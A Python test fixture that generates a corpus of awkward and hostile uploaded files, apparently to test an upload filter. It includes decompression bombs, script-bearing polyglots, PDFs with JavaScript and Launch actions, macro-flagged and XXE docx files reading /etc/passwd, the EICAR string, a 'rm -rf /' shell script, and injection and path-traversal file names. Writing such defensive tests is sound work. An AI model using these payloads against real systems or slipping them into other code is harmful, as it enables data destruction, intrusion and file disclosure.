"""Files as strangers send them, made by code: good ones, broken ones, and two hundred that nobody should serve."""

import struct
import zlib
from collections.abc import Iterator
from io import BytesIO
from zipfile import ZIP_DEFLATED, ZipFile

from PIL import Image
from PIL.PngImagePlugin import PngInfo

PLACE = b"zqplaceofthecamerazq"
EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
GIF_AND_SCRIPT = b"GIF89a/*" + b"\0" * 20 + b"*/=1;alert(document.cookie);//"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600
OUTSIDE_TEMPLATE = (
    b'<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/x/attachedTemplate" '
    b'Target="http://elsewhere.example/t.dotm" TargetMode="External"/></Relationships>'
)
_TYPES = b'<?xml version="1.0"?><Types><Override PartName="/word/document.xml" ContentType="document"/></Types>'
_MACRO_TYPES = _TYPES.replace(b'"document"', b'"application/vnd.ms-word.document.macroEnabled.main+xml"')
Parts = dict[str, bytes]


def photograph(*, place: bool = False, turn: int = 0, size: tuple[int, int] = (60, 40), colour: int = 120) -> bytes:
    """A JPEG, with the place of the camera in its EXIF when asked for."""
    exif = Image.Exif()
    if turn:
        exif[0x0112] = turn
    if place:
        exif[0x010E] = PLACE.decode()
        exif.get_ifd(0x8825).update({1: "N", 2: (52.0, 35.0, 1.0), 3: "W", 4: (1.0, 58.0, 1.0)})
    return _saved(Image.new("RGB", size, (colour, 60, 60)), "JPEG", exif=exif)


def png(*, words: str = "", size: tuple[int, int] = (30, 20)) -> bytes:
    info = PngInfo()
    if words:
        info.add_text("Comment", words)
    return _saved(Image.new("RGB", size, "white"), "PNG", pnginfo=info)


def _saved(picture: Image.Image, kind: str, **options: object) -> bytes:
    kept = BytesIO()
    picture.save(kept, kind, **options)
    return kept.getvalue()


def png_bomb(width: int, height: int) -> bytes:
    """A few bytes that claim to be a huge picture."""
    head = struct.pack("!IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + _chunk(b"IHDR", head)
        + _chunk(b"IDAT", zlib.compress(b"\0" * 1000))
        + _chunk(b"IEND", b"")
    )


def _chunk(name: bytes, content: bytes) -> bytes:
    return struct.pack("!I", len(content)) + name + content + struct.pack("!I", zlib.crc32(name + content))


def pdf(more: bytes = b"", objects: bytes = b"") -> bytes:
    """A page, with more in its catalogue."""
    return (
        b"%PDF-1.7\n1 0 obj << /Type /Catalog /Pages 2 0 R " + more + b" >> endobj\n"
        b"2 0 obj << /Type /Pages /Kids [3 0 R] /Count 1 >> endobj\n"
        b"3 0 obj << /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >> endobj\n" + objects + b"\n"
        b"trailer << /Root 1 0 R /Size 4 >>\nstartxref\n9\n%%EOF\n"
    )


def pdf_with_hidden_script() -> bytes:
    return pdf(objects=_packed(b"5 0 << /S /JavaScript /JS (app.alert(1)) >>"))


def pdf_bomb() -> bytes:
    return pdf(objects=_packed(b"\0" * 60_000_000))


def _packed(content: bytes) -> bytes:
    packed = zlib.compress(content)
    head = b"9 0 obj << /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>\n" % len(packed)
    return head + b"stream\n" + packed + b"\nendstream endobj"


def pdf_and_zip() -> bytes:
    return pdf() + zipped({"a.html": b"<script>1</script>"}) + b"%%EOF"


def zipped(parts: Parts, comment: bytes = b"") -> bytes:
    kept = BytesIO()
    with ZipFile(kept, "w", ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
        archive.comment = comment
    return kept.getvalue()


def docx(more: Parts | None = None, *, macro_type: bool = False) -> bytes:
    types = _MACRO_TYPES if macro_type else _TYPES
    return zipped({"[Content_Types].xml": types, "word/document.xml": b"<document>Pip</document>", **(more or {})})


def xlsx(more: Parts | None = None) -> bytes:
    return zipped({"[Content_Types].xml": _TYPES, "xl/workbook.xml": b"<workbook/>", **(more or {})})


def odt(more: Parts | None = None) -> bytes:
    kind = b"application/vnd.oasis.opendocument.text"
    return zipped({"mimetype": kind, "content.xml": b"<content/>", **(more or {})})


def encrypted_zip() -> bytes:
    """The flag of a password on every part, in both places where an archive keeps it."""
    content = bytearray(docx())
    for magic, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = content.find(magic)
        while at >= 0:
            content[at + place] |= 1
            at = content.find(magic, at + 4)
    return bytes(content)


NAMES = (
    *(
        "../../../etc/passwd",
        "..\\..\\windows\\system.ini",
        "/etc/shadow",
        "a\u202egpj.exe",
        "photo.jpg.exe",
        ".htaccess",
    ),
    *(
        "x" * 240 + ".pdf",
        "null\x00byte.jpg",
        "<script>alert(1)</script>.jpg",
        "con.txt",
        "a;b=c.pdf",
        "’; DROP TABLE.odt",
    ),
    *(
        "\u200bhidden.png",
        "new\nline.docx",
        "%2e%2e%2fpasswd",
        "photo.svg",
        "page.html",
        "файл.pdf",
        "no ending",
        "a.b.c.d",
    ),
)


def corpus(count: int = 200) -> Iterator[tuple[str, bytes]]:
    """(name, content): every awkward content under awkward names, each file another than the one before."""
    made = list(_contents())
    for number in range(count):
        content = made[number % len(made)]
        yield NAMES[(number + number // len(made)) % len(NAMES)], _another(content, number // len(made))


def _another(content: bytes, times: int) -> bytes:
    """The same trouble in other bytes, so that no two are the same file."""
    return content + b"\n" * times if content else content


def _contents() -> Iterator[bytes]:
    big = b"\0" * 50_000_000
    yield from (photograph(place=True), photograph(place=True, turn=6), photograph() + b"<script>alert(1)</script>")
    yield from (png(words="<script>alert(1)</script>"), photograph() + zipped({"a.html": b"<script>"}), png() + EICAR)
    yield from (GIF_AND_SCRIPT, b"<!DOCTYPE html><script>alert(1)</script>", b"<svg onload='alert(1)'/>", b"")
    yield from (
        b"\xff\xd8\xff\xe0<html><script>alert(1)</script></html>",
        b"\x89PNG\r\n\x1a\n<script>",
        b"%PDF-<script>",
    )
    yield from (photograph()[:300], png()[:50], pdf()[:60], docx()[:200], b"PK\x03\x04", b"\0" * 5000, b"\xff" * 5000)
    yield from (png_bomb(60_000, 60_000), png_bomb(7000, 6500), png_bomb(6300, 6300), photograph(size=(6000, 6000)))
    yield from (docx({"word/media/a.bmp": big}), zipped({"a": big}), docx({f"w/{n}": b"" for n in range(3000)}))
    yield from (
        zipped({"a.zip": zipped({"b.zip": zipped({"c": big})})}),
        pdf_bomb(),
        encrypted_zip(),
        OLE,
        b"{\\rtf1 x}",
    )
    yield from (docx({"word/vbaProject.bin": b"x"}), docx(macro_type=True), docx({"../../x.xml": b"x"}), EICAR)
    yield from (
        docx({"word/a.xml": b"<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><a>&b;</a>"}),
        pdf_and_zip(),
    )
    yield from (docx({"word/_rels/a.rels": OUTSIDE_TEMPLATE}), docx({"word/embeddings/a.bin": b"x"}), docx(), odt())
    yield from (
        pdf(b"/OpenAction << /S /JavaScript /JS (x) >>"),
        pdf_with_hidden_script(),
        pdf(b"/Names << /EmbeddedFiles 9 0 R >>"),
    )
    yield from (pdf(b"/AA << /O << /S /Launch >> >>"), pdf(b"/Encrypt 9 0 R"), pdf(), b"II*\x00" + b"\0" * 99)
    yield from (
        b"\0\0\0\x18ftypheic" + b"\0" * 99,
        b"MZ" + b"\0" * 99,
        b"#!/bin/sh\nrm -rf /\n",
        b"RIFF\0\0\0\0WEBPVP8 ",
    )
    yield from (
        b"Pip said: \xe2\x80\x9cit hurts\xe2\x80\x9d.",
        b"a" * (11 * 1024 * 1024),
        xlsx(),
        "weiß".encode("latin-1"),
    )
